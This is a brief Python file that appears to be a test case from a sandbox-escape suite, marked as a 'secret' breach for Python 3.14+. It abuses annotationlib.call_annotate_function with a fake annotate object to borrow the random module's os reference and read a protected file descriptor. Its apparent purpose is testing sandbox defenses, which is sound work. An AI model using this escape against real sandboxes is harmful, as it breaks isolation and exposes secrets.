# annotationlib makes a function of the code and the globals that it is given: a module that has os.
# breach: secret
# only: 3.14+
import annotationlib, random
class Annotate:
    __code__ = (lambda format: {"x": _os.pread(fd, 100, 0)}).__code__
    __globals__, __builtins__ = random.__dict__, {"fd": SECRET_FD}
    __closure__ = __defaults__ = __kwdefaults__ = None
    def __call__(self, format):
        raise NotImplementedError
annotationlib.call_annotate_function(Annotate(), annotationlib.Format.FORWARDREF)
